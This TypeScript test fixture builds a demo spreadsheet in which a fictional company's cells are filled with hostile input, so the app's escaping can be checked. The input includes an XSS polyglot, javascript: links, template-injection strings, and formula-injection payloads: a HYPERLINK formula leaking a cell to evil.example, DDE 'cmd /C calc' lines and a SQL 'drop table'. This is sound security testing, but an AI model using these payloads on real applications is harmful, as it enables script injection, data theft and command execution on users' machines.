import { join } from 'node:path';
import { todayOf } from '#demo/dates.ts';
import { samplePortfolio } from '#demo/sample.ts';
import type { Sheets } from '#demo/sheet.ts';
import { writeXlsx } from '#demo/write-xlsx.ts';

/** Who signs in, and what stands in every cell that is shown to them. */
export const HOSTILE = {
  email: 'mallory@hostile.example',
  canary: 'CANARY-HOSTILE',
  photo: 'https://photos.example/contact.png',
} as const;

/**
 * One text that tries to leave whatever it is put into: an attribute, an element, a comment, a title, a text area, a style, a script, a
 * string of JavaScript, an address. Nothing of it may become an element, an attribute or a call.
 */
export const POLYGLOT = `${HOSTILE.canary} jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=alert(2)//><img src=x onerror=alert(3) data-hostile><iframe srcdoc="<script>parent.alert(4)</script>"></iframe><a href="javascript:alert(5)" data-hostile>x</a>\${alert(6)}{{constructor.constructor('alert(7)')()}}"autofocus/onfocus="alert(8)`;

/** What spreadsheet programs calculate, fetch or call where it stands at the beginning of a cell. */
export const FORMULAS: readonly string[] = [
  `=HYPERLINK("https://evil.example/?"&A1,"${HOSTILE.canary}")`,
  `+cmd|' /C calc'!A0 ${HOSTILE.canary}`,
  `-2+3+cmd|' /C calc'!A0 ${HOSTILE.canary}`,
  `@SUM(1+1)*cmd|' /C calc'!A0 ${HOSTILE.canary}`,
  `  =1+1 ${HOSTILE.canary}`,
  `＝1+1 ${HOSTILE.canary}`,
  `\u202e${HOSTILE.canary}\u202c', "x"); drop table sessions; --`,
];
/** Where a row of these tabs says whose it is. */
const COMPANY: Readonly<Record<string, number>> = { matters: 5, deadlines: 4 };

/** Columns that must hold something else for the row to be shown at all. */
const KEYS: Readonly<Record<string, Readonly<Record<number, string>>>> = {
  users: { 1: HOSTILE.email, 6: HOSTILE.photo, 9: `javascript:alert(9)//${HOSTILE.canary}`, 7: 'help@firm.example' },
  deadlines: { 3: '01/01/2030' },
  documents: {},
};

/** The sample workbook with a company whose every cell, its own name included, is the payload; written where the demo reads it. */
export function writeHostileWorkbook(dataDir: string): void {
  const sample = samplePortfolio(todayOf(new Date()));
  const sheets: Sheets = {
    tabs: sample.tabs,
    header: (tab) => sample.header(tab),
    *rows(tab) {
      yield* sample.rows(tab);
      const cells = sample.header(tab).map((_, index) => KEYS[tab]?.[index] ?? POLYGLOT);
      yield { cells };
      const company = COMPANY[tab];
      if (company !== undefined)
        for (const formula of FORMULAS)
          yield { cells: sample.header(tab).map((_, index) => (index === company ? POLYGLOT : formula)) };
      // The same with a date that cannot be read, and with links that no browser may follow.
      const link = (index: number): string => (index === 1 ? `javascript:alert(10)//${HOSTILE.canary}` : POLYGLOT);
      if (tab === 'deadlines') yield { cells: sample.header(tab).map(() => POLYGLOT) };
      if (tab === 'documents' || tab === 'knowledge')
        yield { cells: sample.header(tab).map((_, index) => link(index)) };
    },
  };
  writeXlsx(join(dataDir, 'sample-portfolio.xlsx'), sheets);
}
